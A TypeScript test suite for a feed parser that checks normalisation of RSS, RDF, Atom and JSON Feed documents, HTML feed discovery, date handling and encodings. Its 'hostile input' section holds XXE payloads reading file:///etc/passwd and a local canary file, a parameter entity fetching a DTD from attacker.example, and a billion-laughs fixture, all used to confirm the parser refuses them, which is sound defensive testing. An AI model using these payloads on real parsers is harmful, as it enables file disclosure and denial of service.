/**
 * parseFeedDocument: every feed format normalized to exact values, HTML autodiscovery, and the
 * hostile inputs (XXE, entity expansion, oversize, bad encodings, non-feeds) refused up front.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, test } from 'node:test';
import { parseFeedDocument } from '../../src/feeds/parse/parse-feed.ts';
import { parseXmlFeed } from '../../src/feeds/parse/xml-feed.ts';
import {
  type FeedDocument,
  FeedError,
  type FeedErrorCode,
  type ParsedFeed,
  type ParsedItem,
} from '../../src/feeds/parsed.ts';

const fixture = (name: string): Buffer =>
  readFileSync(new URL(`../fixtures/feeds/${name}`, import.meta.url));
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

function feedOf(document: FeedDocument): ParsedFeed {
  assert.equal(document.kind, 'feed');
  return document.feed;
}

function item(feed: ParsedFeed, index: number): ParsedItem {
  const found = feed.items[index];
  assert.ok(found, `item ${index} exists`);
  return found;
}

/** An item with its dates as ISO strings, so one deepEqual checks every field. */
function plain(entry: ParsedItem) {
  return {
    ...entry,
    published: entry.published?.toISOString() ?? null,
    updated: entry.updated?.toISOString() ?? null,
  };
}

function refused(run: () => unknown, code: FeedErrorCode, message: RegExp): FeedError {
  let caught: unknown;
  try {
    run();
  } catch (error) {
    caught = error;
  }
  assert.ok(caught instanceof FeedError, `expected a FeedError, got ${String(caught)}`);
  assert.equal(caught.code, code, caught.message);
  assert.match(caught.message, message);
  return caught;
}

function rss(items: string, extra = ''): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
  xmlns:content="http://purl.org/rss/1.0/modules/content/" ${extra}>
  <channel><title>Inline</title><link>https://inline.example.com/</link>${items}</channel>
</rss>`;
}

describe('a DEV per-author RSS feed', () => {
  const DEV_URL = 'https://dev.to/feed/miraokafor';

  test('normalizes channel and items to exact values', () => {
    const feed = feedOf(
      parseFeedDocument(fixture('dev-author.xml'), {
        url: DEV_URL,
        contentType: 'application/rss+xml; charset=utf-8',
      }),
    );
    assert.equal(feed.format, 'rss');
    assert.equal(feed.title, 'DEV Community: Mira Okafor');
    assert.equal(feed.homeUrl, 'https://dev.to/miraokafor');
    assert.equal(feed.items.length, 3);

    const first = item(feed, 0);
    const url1 =
      'https://dev.to/miraokafor/narrowing-unions-in-typescript-without-a-single-cast-4k2p';
    assert.deepEqual(plain({ ...first, html: null }), {
      guid: url1,
      url: url1,
      title: 'Narrowing unions in TypeScript without a single cast',
      html: null,
      published: '2026-05-12T08:15:00.000Z',
      updated: null,
      categories: ['typescript', 'webdev', 'tutorial'],
      author: 'Mira Okafor',
    });

    const second = item(feed, 1);
    assert.equal(second.title, 'What a 3 a.m. Postgres migration taught me about lock_timeout');
    assert.equal(second.published?.toISOString(), '2026-05-01T17:45:12.000Z');
    assert.deepEqual(second.categories, ['postgres', 'devops']);

    const third = item(feed, 2);
    assert.equal(third.title, 'Tabs & spaces: how our team called a truce');
    assert.equal(
      third.url,
      'https://dev.to/miraokafor/tabs-spaces-how-our-team-called-a-truce-2b7e',
    );
    assert.equal(third.published?.toISOString(), '2026-04-20T09:00:00.000Z');
    assert.equal(
      third.html,
      '<p>Our team argued about indentation for two sprints. Here is the compromise we shipped: an <code>.editorconfig</code> and a formatter that nobody configures by hand.</p>',
    );
  });

  test('keeps the DEV code blocks as HTML, decoded exactly once', () => {
    const feed = feedOf(parseFeedDocument(fixture('dev-author.xml'), { url: DEV_URL }));
    const html = item(feed, 0).html ?? '';
    assert.ok(html.startsWith('<p>Every codebase I have joined had at least one <code>as</code>'));
    assert.ok(
      html.includes(
        '<div class="highlight js-code-highlight">\n<pre class="highlight typescript"><code><span class="kd">type</span> <span class="nx">Shape</span> <span class="o">=</span>\n',
      ),
    );
    // In the XML these were &amp;lt; and &amp;gt;: one decoding leaves HTML entities, not tags.
    assert.ok(
      html.includes(
        '<span class="nb">Array</span><span class="o">&lt;</span><span class="nx">Shape</span><span class="o">&gt;</span>',
      ),
    );
    assert.ok(html.includes('<span class="o">=&gt;</span>'));
    assert.ok(html.includes('every place that needs it &amp; nothing else.</p>'));
    assert.ok(html.endsWith('keeps the check and the type in one place.</p>'));

    const postgres = item(feed, 1).html ?? '';
    assert.ok(postgres.startsWith('<p>It was 3&nbsp;a.m., the deploy was half done'));
    assert.ok(
      postgres.includes(
        `<pre class="highlight shell"><code><span class="nv">$ </span>psql <span class="nt">-c</span> <span class="s2">"SELECT pid, wait_event_type FROM pg_stat_activity WHERE state &lt;&gt; 'idle';"</span>\n</code></pre>`,
      ),
    );
    assert.ok(
      postgres.includes(
        `<pre class="highlight plaintext"><code>SET lock_timeout = '5s';\nALTER TABLE orders ADD COLUMN shipped_at timestamptz;\n</code></pre>`,
      ),
    );
  });

  test('honors a UTF-8 byte order mark', () => {
    const withBom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), fixture('dev-author.xml')]);
    const plainFeed = feedOf(parseFeedDocument(fixture('dev-author.xml'), { url: DEV_URL }));
    const bomFeed = feedOf(parseFeedDocument(withBom, { url: DEV_URL }));
    assert.deepEqual(bomFeed, plainFeed);
  });

  test('is read as a feed even when served as text/html', () => {
    const feed = feedOf(
      parseFeedDocument(fixture('dev-author.xml'), { url: DEV_URL, contentType: 'text/html' }),
    );
    assert.equal(feed.items.length, 3);
  });
});

describe('other formats', () => {
  test('RSS 0.91 with the Netscape DOCTYPE', () => {
    const feed = feedOf(parseFeedDocument(fixture('rss-091.xml'), { url: null }));
    assert.equal(feed.format, 'rss');
    assert.equal(feed.title, 'Harbour Town Gazette');
    assert.equal(feed.homeUrl, 'http://gazette.example.org/');
    assert.deepEqual(feed.items.map(plain), [
      {
        guid: null,
        url: 'http://gazette.example.org/news?id=41&section=transport',
        title: 'Ferry timetable changes for spring',
        html: 'From 1 April the morning ferry leaves at 07:10 &amp; the last one at 21:40.',
        published: null,
        updated: null,
        categories: [],
        author: null,
      },
      {
        guid: null,
        url: 'http://gazette.example.org/news?id=42&section=events',
        title: 'Lighthouse open day',
        html: 'Climb all 112 steps on Sunday; children under 8 go free.',
        published: null,
        updated: null,
        categories: [],
        author: null,
      },
    ]);
  });

  test('RDF / RSS 1.0 with Dublin Core and content:encoded', () => {
    const feed = feedOf(parseFeedDocument(fixture('rdf-10.xml'), {}));
    assert.equal(feed.format, 'rdf');
    assert.equal(feed.title, 'Tinker Log');
    assert.equal(feed.homeUrl, 'https://tinkerlog.example.com/');
    assert.deepEqual(feed.items.map(plain), [
      {
        guid: 'https://tinkerlog.example.com/2026/02/solder-fumes/',
        url: 'https://tinkerlog.example.com/2026/02/solder-fumes/',
        title: 'A fume extractor from a PC fan',
        html: '<p>Twelve volts, one carbon filter, no more headaches.</p><pre><code>fan_speed = min(100, 40 + temp * 2)</code></pre>',
        published: '2026-02-14T20:05:00.000Z',
        updated: null,
        categories: ['electronics', 'workshop'],
        author: 'Jonas Pell',
      },
      {
        guid: 'https://tinkerlog.example.com/2026/01/bench-psu/',
        url: 'https://tinkerlog.example.com/2026/01/bench-psu/',
        title: 'Rebuilding a bench power supply',
        html: '<p>The old one hummed. The new one <em>does not</em>.</p>',
        published: '2026-01-03T00:00:00.000Z',
        updated: null,
        categories: ['electronics'],
        author: 'Jonas Pell',
      },
    ]);
  });

  test('Atom with xhtml content, text content and xml:base relative links', () => {
    const feed = feedOf(
      parseFeedDocument(fixture('atom-xhtml.xml'), {
        url: 'https://notes.example.net/feeds/garden.atom',
        contentType: 'application/atom+xml',
      }),
    );
    assert.equal(feed.format, 'atom');
    assert.equal(feed.title, 'Quiet Garden Notes');
    assert.equal(feed.homeUrl, 'https://notes.example.net/garden/');
    assert.deepEqual(feed.items.map(plain), [
      {
        guid: 'tag:notes.example.net,2026:garden/42',
        // feed xml:base "/garden/" on the document URL, then the entry's "2026/03/".
        url: 'https://notes.example.net/garden/2026/03/watering-cron.html',
        title: 'Watering schedules as cron jobs',
        html:
          '<p>The tomatoes now get water on a <a href="../../cron.html">schedule</a> &amp; I get my evenings back.</p>\n' +
          '        <pre><code>0 6 * * * /usr/local/bin/water --zone=tomatoes --litres=2</code></pre>',
        published: '2026-03-29T16:20:00.000Z',
        updated: '2026-03-30T07:45:10.000Z',
        categories: ['automation', 'garden'],
        author: 'Ines Varga',
      },
      {
        guid: 'tag:notes.example.net,2026:garden/41',
        url: 'https://notes.example.net/garden/soil-temperature.html',
        title: 'Soil < 10 °C: wait',
        html: 'Below 10 °C seeds sit &amp; sulk.\nPlant when it&#39;s warmer.',
        published: '2026-03-12T09:00:00.000Z',
        updated: '2026-03-12T09:00:00.000Z',
        categories: ['Planting'],
        author: 'Guest Gardener',
      },
      {
        guid: 'tag:notes.example.net,2026:garden/40',
        url: 'https://seeds.example.com/catalogue?year=2026&lang=en',
        title: 'Seed catalogue links',
        // Out-of-line content (src=) has nothing to import: the summary stands in.
        html: '<p>Three catalogues worth <strong>reading</strong>.</p>',
        published: '2026-02-27T21:00:00.000Z',
        updated: '2026-02-27T21:00:00.000Z',
        categories: [],
        author: 'Ines Varga',
      },
    ]);
  });

  test('Atom relative links without a document URL are dropped, not guessed', () => {
    const feed = feedOf(parseFeedDocument(fixture('atom-xhtml.xml'), { url: null }));
    assert.equal(feed.homeUrl, null);
    assert.equal(item(feed, 0).url, null);
    assert.equal(item(feed, 2).url, 'https://seeds.example.com/catalogue?year=2026&lang=en');
  });

  test('JSON Feed 1.0: author object, content_text as paragraphs, relative url', () => {
    const feed = feedOf(
      parseFeedDocument(fixture('json-feed-1.0.json'), {
        url: 'https://sounds.example.io/feed.json',
        contentType: 'application/json',
      }),
    );
    assert.equal(feed.format, 'json');
    assert.equal(feed.title, 'Field Recordings');
    assert.equal(feed.homeUrl, 'https://sounds.example.io/');
    assert.deepEqual(feed.items.map(plain), [
      {
        guid: 'https://sounds.example.io/2026/rain-on-tin',
        url: 'https://sounds.example.io/2026/rain-on-tin',
        title: 'Rain on a tin roof',
        html:
          '<p>Recorded at 4 a.m. with two &lt;small&gt; omni mics.</p>\n' +
          '<p>The roof is 1950s &amp; rusty.<br>It rings at 3 kHz.</p>',
        published: '2026-04-02T07:12:00.000Z',
        updated: null,
        categories: ['rain', 'ambience'],
        author: 'Tomasz Lind',
      },
      {
        guid: '7',
        url: 'https://archive.example.org/items/harbour-gulls',
        title: 'Harbour gulls (guest link)',
        html: '<p>A friend&#39;s recording of gulls at dawn.</p>',
        published: '2026-03-18T06:00:00.000Z',
        updated: null,
        categories: [],
        author: 'Guest Recordist',
      },
    ]);
  });

  test('JSON Feed 1.1: authors arrays, content_html preferred', () => {
    const feed = feedOf(parseFeedDocument(fixture('json-feed-1.1.json'), {}));
    assert.equal(feed.format, 'json');
    assert.equal(feed.title, 'Compiler Corner');
    assert.equal(feed.homeUrl, 'https://compiler.example.dev/');
    assert.deepEqual(feed.items.map(plain), [
      {
        guid: 'cc-2026-05',
        url: 'https://compiler.example.dev/posts/constant-folding',
        title: 'Constant folding in forty lines',
        html: '<p>Fold <code>2 + 3</code> before anyone asks.</p><pre><code class="language-rust">fn fold(e: Expr) -&gt; Expr { e }</code></pre>',
        published: '2026-05-04T06:30:00.000Z',
        updated: '2026-05-05T08:30:00.000Z',
        categories: ['compilers', 'rust'],
        author: 'Dana Whitfield',
      },
      {
        guid: 'cc-2026-04',
        url: 'https://compiler.example.dev/posts/ssa-by-hand',
        title: 'SSA by hand',
        html: '<p>Renaming variables is most of it.</p>',
        published: '2026-04-20T09:00:00.000Z',
        updated: null,
        categories: [],
        author: 'Priya Raman',
      },
    ]);
  });
});

describe('RSS details', () => {
  test('guid, isPermaLink, xml:base, content:encoded, categories and authors', () => {
    const doc = rss(
      `<item><title>A</title><guid>https://inline.example.com/p/1</guid></item>
      <item><title>B</title><guid isPermaLink="false">https://inline.example.com/p/2</guid></item>
      <item><title>C</title><guid>post-3</guid></item>
      <item xml:base="/archive/"><title>D</title><link>p/4</link></item>
      <item>
        <title>E</title><link>/p/5</link>
        <description>short</description>
        <content:encoded><![CDATA[<p>full <b>body</b></p>]]></content:encoded>
        <category>Node</category><category domain="https://x.example/tags">web</category>
        <dc:subject>Node</dc:subject><dc:subject>security</dc:subject>
        <author>ed@inline.example.com (Ed Writer)</author>
      </item>`,
      'xml:base="https://inline.example.com/blog/"',
    );
    const feed = feedOf(parseFeedDocument(bytes(doc), { url: 'https://elsewhere.example/feed' }));
    assert.deepEqual(
      feed.items.map((entry) => [entry.title, entry.guid, entry.url]),
      [
        ['A', 'https://inline.example.com/p/1', 'https://inline.example.com/p/1'],
        ['B', 'https://inline.example.com/p/2', null],
        ['C', 'post-3', null],
        ['D', null, 'https://inline.example.com/archive/p/4'],
        ['E', null, 'https://inline.example.com/p/5'],
      ],
    );
    const e = item(feed, 4);
    assert.equal(e.html, '<p>full <b>body</b></p>');
    assert.deepEqual(e.categories, ['Node', 'web', 'security']);
    assert.equal(e.author, 'Ed Writer');
  });

  test('dates: RFC 822 with named and numeric zones, ISO 8601, dc:date fallback, invalid as null', () => {
    const cases: [string, string | null][] = [
      ['Wed, 20 May 2026 19:30:53 +0000', '2026-05-20T19:30:53.000Z'],
      ['Wed, 20 May 2026 19:30:53 GMT', '2026-05-20T19:30:53.000Z'],
      ['Wed, 20 May 2026 15:30:53 EDT', '2026-05-20T19:30:53.000Z'],
      ['Tue, 06 Jan 2026 09:15:00 EST', '2026-01-06T14:15:00.000Z'],
      ['Tue, 06 Jan 2026 09:15:00 PST', '2026-01-06T17:15:00.000Z'],
      ['Tue, 06 Jan 2026 09:15:00 -0330', '2026-01-06T12:45:00.000Z'],
      ['6 Jan 2026 09:15 +0530', '2026-01-06T03:45:00.000Z'],
      ['Tue, 6 Jan 26 09:15:00 UT', '2026-01-06T09:15:00.000Z'],
      ['Tuesday, 06-Jan-2026 09:15:00 CET', '2026-01-06T08:15:00.000Z'],
      ['2026-01-06T09:15:00+01:00', '2026-01-06T08:15:00.000Z'],
      ['2026-01-06T09:15:00.250Z', '2026-01-06T09:15:00.250Z'],
      ['2026-01-06', '2026-01-06T00:00:00.000Z'],
      ['Tue, 31 Feb 2026 10:00:00 GMT', null],
      ['Tue, 06 Jan 2026 25:00:00 GMT', null],
      ['Tue, 06 Jan 2026 09:15:00 XYZ', null],
      ['2026-13-01T00:00:00Z', null],
      ['next Tuesday', null],
    ];
    const items = cases
      .map(([date], i) => `<item><title>${i}</title><pubDate>${date}</pubDate></item>`)
      .join('');
    const feed = feedOf(parseFeedDocument(bytes(rss(items)), {}));
    assert.deepEqual(
      feed.items.map((entry) => entry.published?.toISOString() ?? null),
      cases.map(([, iso]) => iso),
    );

    const fallback = feedOf(
      parseFeedDocument(
        bytes(
          rss(
            '<item><title>x</title><pubDate>soon</pubDate><dc:date>2026-01-06T10:00:00Z</dc:date></item>',
          ),
        ),
        {},
      ),
    );
    assert.equal(item(fallback, 0).published?.toISOString(), '2026-01-06T10:00:00.000Z');
  });
});

describe('HTML pages', () => {
  test('advertised feeds come back absolute, resolved against <base>, in order, once', () => {
    const document = parseFeedDocument(fixture('page-with-alternates.html'), {
      url: 'https://lamplight.example.com/blog/index.html',
      contentType: 'text/html; charset=utf-8',
    });
    assert.deepEqual(document, {
      kind: 'html',
      discovered: {
        alternates: [
          'https://lamplight.example.com/journal/feed.xml',
          'https://lamplight.example.com/atom.xml?lang=en&full=1',
          'https://feeds.example.com/lamplight.json',
          'https://cdn.example.com/lamplight/feed.json',
          'https://lamplight.example.com/journal/comments/feed.xml',
        ],
      },
    });
  });

  test('without <base>, links resolve against the page URL', () => {
    const page = `<html><head>
      <link rel="alternate" type="application/atom+xml" href="atom.xml">
      <link rel="alternate" type="application/rss+xml" href="/rss">
    </head><body></body></html>`;
    const document = parseFeedDocument(bytes(page), { url: 'https://site.example/a/b/page' });
    assert.deepEqual(document, {
      kind: 'html',
      discovered: {
        alternates: ['https://site.example/a/b/atom.xml', 'https://site.example/rss'],
      },
    });
  });

  test('a page that advertises no feed is not a feed', () => {
    refused(
      () =>
        parseFeedDocument(fixture('page-without-feed.html'), {
          url: 'https://plain.example/',
          contentType: 'text/html',
        }),
      'not_a_feed',
      /HTML page that advertises no feed/,
    );
  });
});

describe('hostile input', () => {
  let dir: string;
  let secretFile: string;
  const SECRET = 'quire-xxe-canary-7f3a9c';

  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'quire-feed-xxe-'));
    secretFile = join(dir, 'secret.txt');
    writeFileSync(secretFile, `${SECRET}\n`);
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  const xxeFor = (target: string) =>
    rss('<item><title>&xxe;</title><description>before &xxe; after</description></item>').replace(
      '<rss',
      `<!DOCTYPE rss [<!ENTITY xxe SYSTEM "${target}">]>\n<rss`,
    );

  test('XXE with SYSTEM file:///etc/passwd is refused before parsing', () => {
    const error = refused(
      () => parseFeedDocument(fixture('xxe-file.xml'), { url: 'https://attacker.example/feed' }),
      'entities_refused',
      /declares XML entities/,
    );
    assert.ok(!error.message.includes('root:'));
  });

  test('a SYSTEM entity on a local file never leaks its content', () => {
    const doc = xxeFor(pathToFileURL(secretFile).href);
    const error = refused(
      () => parseFeedDocument(bytes(doc), {}),
      'entities_refused',
      /entity declarations are refused/,
    );
    assert.ok(!error.message.includes(SECRET));

    // The parser layer alone, with the guard bypassed, must not resolve it either.
    let outcome: string;
    try {
      outcome = JSON.stringify(parseXmlFeed(doc, 'rss', null));
    } catch (caught) {
      outcome = String(caught);
    }
    assert.ok(!outcome.includes(SECRET), outcome);
  });

  test('billion laughs is refused, and the parser layer would not expand it anyway', () => {
    refused(
      () => parseFeedDocument(fixture('billion-laughs.xml'), {}),
      'entities_refused',
      /declares XML entities/,
    );
    const unguarded = parseXmlFeed(fixture('billion-laughs.xml').toString('utf8'), 'rss', null);
    assert.equal(unguarded.title, '&lol9;');
    assert.equal(item(unguarded, 0).html, '&lol9;');
  });

  test('entity declarations are refused however they are dressed up', () => {
    const variants = [
      // lower case, which lenient parsers may still honor
      rss('<item><title>a</title></item>').replace(
        '<rss',
        '<!DOCTYPE rss [<!entity a "b">]>\n<rss',
      ),
      // a parameter entity pulling a remote DTD
      rss('<item><title>a</title></item>').replace(
        '<rss',
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n<rss',
      ),
      // a DOCTYPE after the root element
      `${rss('<item><title>a</title></item>')}<!DOCTYPE x [<!ENTITY y "z">]>`,
      // an HTML page carrying one
      '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><head><link rel="alternate" type="application/rss+xml" href="https://a.example/feed"></head></html>',
    ];
    for (const doc of variants) {
      refused(() => parseFeedDocument(bytes(doc), {}), 'entities_refused', /XML entities/);
    }
  });

  test('a 50 MB document is refused by size before anything reads it', () => {
    const big = new Uint8Array(50 * 1024 * 1024).fill(0x20);
    big.set(bytes('<?xml version="1.0"?><rss version="2.0"><channel><title>huge</title>'));
    refused(
      () => parseFeedDocument(big, { url: 'https://big.example/feed' }),
      'too_large',
      /52428800 bytes, over the limit of 10485760 bytes/,
    );
  });

  test('maxBytes is honored exactly', () => {
    const doc = fixture('rss-091.xml');
    refused(
      () => parseFeedDocument(doc, { maxBytes: doc.length - 1 }),
      'too_large',
      new RegExp(`over the limit of ${doc.length - 1} bytes`),
    );
    assert.equal(parseFeedDocument(doc, { maxBytes: doc.length }).kind, 'feed');
  });

  test('invalid UTF-8 is refused, naming the encoding', () => {
    const good = bytes(rss('<item><title>caf_</title></item>'));
    const bad = Buffer.from(good);
    bad[bad.indexOf('caf_') + 3] = 0xff; // a byte no UTF-8 sequence starts with
    refused(() => parseFeedDocument(bad, {}), 'invalid_utf8', /not valid UTF-8/);

    const truncated = Buffer.concat([Buffer.from(good), Buffer.from([0xe2, 0x82])]);
    refused(() => parseFeedDocument(truncated, {}), 'invalid_utf8', /not valid UTF-8/);
  });

  test('a windows-1252 feed decodes by its XML declaration', () => {
    const feed = feedOf(parseFeedDocument(fixture('windows-1252.xml'), {}));
    assert.equal(feed.title, 'Café Notizen – „Wochenblatt“');
    assert.deepEqual(plain(item(feed, 0)), {
      guid: 'cafe-preise-2026',
      url: 'https://cafe.example.de/preise-2026',
      title: 'Preise für 2026: Espresso 2,40 €',
      html: '<p>Naïve Frage: warum kostet der Café crème mehr? … Weil’s so ist.</p>',
      published: '2026-02-02T09:00:00.000Z',
      updated: null,
      categories: ['Preise'],
      author: null,
    });
  });

  test('the Content-Type charset decides, and is refused when it lies', () => {
    const latin = fixture('windows-1252.xml');
    const undeclared = Buffer.from(
      latin.toString('latin1').replace(/^<\?xml[^>]*\?>/, '<?xml version="1.0"?>'),
      'latin1',
    );
    const feed = feedOf(
      parseFeedDocument(undeclared, { contentType: 'application/rss+xml; charset=ISO-8859-1' }),
    );
    assert.equal(feed.title, 'Café Notizen – „Wochenblatt“');

    refused(
      () => parseFeedDocument(latin, { contentType: 'application/xml; charset="utf-8"' }),
      'invalid_utf8',
      /not valid UTF-8 \(declared by the Content-Type header\)/,
    );
    refused(
      () => parseFeedDocument(latin, { contentType: 'text/xml; charset=x-klingon' }),
      'invalid_utf8',
      /unsupported encoding "x-klingon"/,
    );
  });

  test('documents that are not feeds', () => {
    refused(
      () => parseFeedDocument(bytes('Hello, this is just some text.'), {}),
      'not_a_feed',
      /neither XML, HTML nor JSON/,
    );
    refused(() => parseFeedDocument(bytes('   \n'), {}), 'not_a_feed', /empty/);
    refused(
      () => parseFeedDocument(bytes('{"name": "quire", "items": [{"id": "1"}]}'), {}),
      'not_a_feed',
      /JSON but not a JSON Feed/,
    );
    refused(
      () => parseFeedDocument(bytes('[{"version": "https://jsonfeed.org/version/1.1"}]'), {}),
      'not_a_feed',
      /JSON but not a JSON Feed/,
    );
    refused(
      () =>
        parseFeedDocument(
          bytes('<?xml version="1.0"?><opml version="2.0"><head/><body/></opml>'),
          {},
        ),
      'not_a_feed',
      /root element is <opml>/,
    );
  });

  test('feeds without items are empty', () => {
    refused(
      () => parseFeedDocument(fixture('empty-channel.xml'), {}),
      'empty',
      /"Nothing here yet" has no items/,
    );
    const atom =
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>No entries</title><id>urn:x</id></feed>';
    refused(() => parseFeedDocument(bytes(atom), {}), 'empty', /has no items/);
    const json = '{"version": "https://jsonfeed.org/version/1.1", "title": "Void", "items": []}';
    refused(() => parseFeedDocument(bytes(json), {}), 'empty', /"Void" has no items/);
  });

  test('malformed XML and JSON are refused with where and why', () => {
    refused(
      () => parseFeedDocument(fixture('malformed.xml'), {}),
      'malformed',
      /line 7, column \d+: Expected closing tag 'description'/,
    );
    refused(
      () => parseFeedDocument(bytes(rss('<item><title>Fish & chips</title></item>')), {}),
      'malformed',
      /malformed XML at line \d+/,
    );
    refused(
      () => parseFeedDocument(bytes('<?xml version="1.0"?><rss version="2.0"><channel>'), {}),
      'malformed',
      /malformed XML/,
    );
    refused(
      () => parseFeedDocument(bytes('{"version": "https://jsonfeed.org/version/1.1", '), {}),
      'malformed',
      /not valid JSON/,
    );
  });
});

test('a generated 5,000-item RSS feed comes back whole', () => {
  const items = Array.from(
    { length: 5000 },
    (_, i) =>
      `<item><title>Post ${i}</title><link>https://bulk.example/p/${i}</link>` +
      `<guid>https://bulk.example/p/${i}</guid><pubDate>Tue, 06 Jan 2026 09:15:00 GMT</pubDate>` +
      `<description>&lt;p&gt;Body of post ${i}.&lt;/p&gt;</description><category>bulk</category></item>`,
  ).join('\n');
  const feed = feedOf(parseFeedDocument(bytes(rss(items)), { url: 'https://bulk.example/feed' }));
  assert.equal(feed.items.length, 5000);
  assert.equal(item(feed, 0).url, 'https://bulk.example/p/0');
  assert.equal(item(feed, 4999).guid, 'https://bulk.example/p/4999');
  assert.equal(item(feed, 4999).html, '<p>Body of post 4999.</p>');
});
